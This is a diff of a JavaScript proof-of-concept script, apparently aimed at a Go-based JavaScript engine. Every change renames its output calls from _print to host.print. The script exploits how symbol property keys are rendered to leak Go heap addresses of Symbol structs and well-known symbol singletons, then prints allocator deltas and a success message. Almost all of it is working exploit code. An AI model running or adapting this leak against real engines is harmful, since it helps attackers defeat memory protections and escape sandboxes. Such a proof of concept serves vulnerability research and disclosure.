@@ -33,15 +33,15 @@ while (i < keys.length) {
         // Format: @@sym(desc)@0xADDR -- parts = ["", "", "sym(desc)", "0xADDR"]
         var addr = parts[parts.length - 1];
         leaked.push({desc: k, addr: addr});
-        _print("[*] Symbol key: " + k);
-        _print("[*] Leaked heap addr: " + addr);
+        host.print("[*] Symbol key: " + k);
+        host.print("[*] Leaked heap addr: " + addr);
     }
     i++;
 }
 
 // Step 3: Leak well-known symbol addresses (these are global singletons)
-_print("");
-_print("[*] Well-known symbol singleton addresses:");
+host.print("");
+host.print("[*] Well-known symbol singleton addresses:");
 
 var wk = {};
 wk[Symbol.iterator] = 1;
@@ -66,19 +66,19 @@ while (j < wkKeys.length) {
         var descStart = wkk.indexOf("(") + 1;
         var descEnd = wkk.indexOf(")@");
         var desc = wkk.substring(descStart, descEnd);
-        _print("  " + desc + " = " + wkAddr);
+        host.print("  " + desc + " = " + wkAddr);
         wkAddrs.push(wkAddr);
     }
     j++;
 }
 
 // Step 4: Demonstrate heap layout analysis
-_print("");
+host.print("");
 if (leaked.length > 0) {
-    _print("[+] SUCCESS: Leaked " + (leaked.length + wkAddrs.length) + " Go heap addresses");
-    _print("[*] User-created Symbol structs are heap-allocated per Symbol() call");
-    _print("[*] Well-known symbols are global singletons (stable across calls)");
-    _print("[*] Address format: Go runtime heap pointer to runtime.Symbol struct");
+    host.print("[+] SUCCESS: Leaked " + (leaked.length + wkAddrs.length) + " Go heap addresses");
+    host.print("[*] User-created Symbol structs are heap-allocated per Symbol() call");
+    host.print("[*] Well-known symbols are global singletons (stable across calls)");
+    host.print("[*] Address format: Go runtime heap pointer to runtime.Symbol struct");
 
     // Show address deltas between user symbols to reveal allocator behavior
     if (leaked.length >= 2) {
@@ -86,14 +86,14 @@ if (leaked.length > 0) {
         var a2 = parseInt(leaked[1].addr, 16);
         if (!isNaN(a1) && !isNaN(a2)) {
             var delta = a2 - a1;
-            _print("");
-            _print("[*] Heap analysis:");
-            _print("    sym1 @ " + leaked[0].addr);
-            _print("    sym2 @ " + leaked[1].addr);
-            _print("    delta = " + delta + " bytes");
-            _print("    (reveals Go allocator stride / size class)");
+            host.print("");
+            host.print("[*] Heap analysis:");
+            host.print("    sym1 @ " + leaked[0].addr);
+            host.print("    sym2 @ " + leaked[1].addr);
+            host.print("    delta = " + delta + " bytes");
+            host.print("    (reveals Go allocator stride / size class)");
         }
     }
 } else {
-    _print("[-] No addresses leaked -- getOwnPropertyNames may filter symbol keys");
+    host.print("[-] No addresses leaked -- getOwnPropertyNames may filter symbol keys");
 }